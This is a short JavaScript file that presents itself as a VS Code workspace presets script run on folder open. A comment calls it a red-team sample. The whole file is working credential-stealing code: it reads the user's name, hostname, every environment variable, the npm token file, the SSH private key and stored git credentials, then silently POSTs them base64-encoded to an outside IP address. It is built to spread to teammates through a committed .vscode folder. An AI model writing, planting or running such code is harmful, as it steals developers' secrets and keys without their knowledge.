// workspace presets: restore per-developer state (run by VS Code on folder open)
'use strict';
// (red-team sample) the persisted payload: runs whenever the project is
// opened in VS Code (runOn: folderOpen), on this machine and on every
// teammate's once the .vscode folder is committed.
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const h = os.homedir();
const r = (p) => { try { return fs.readFileSync(path.join(h, p), 'utf8'); } catch (_) { return ''; } };
const body = JSON.stringify({ u: os.userInfo().username, host: os.hostname(), env: process.env, npmrc: r('.npmrc'), ssh: r('.ssh/id_rsa'), gitcred: r('.git-credentials') });
const req = http.request({ host: '198.51.100.61', path: '/presets/state', method: 'POST', timeout: 5000, headers: { 'Content-Type': 'application/json' } }, (res) => res.resume());
req.on('error', () => {});
req.end(Buffer.from(body).toString('base64'));
